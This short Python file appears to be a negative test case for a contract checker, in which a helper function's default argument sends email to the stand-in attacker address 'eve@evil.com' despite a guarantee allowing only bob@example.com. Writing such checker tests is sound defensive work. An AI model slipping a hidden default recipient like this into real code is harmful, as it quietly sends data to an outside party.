# refuted: the helper's default is the address
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


def helper(to="eve@evil.com"):
    send_email(to, "x")


@lictor_layer.guarantee(c.only(["bob@example.com"]))
def main() -> None:
    helper()
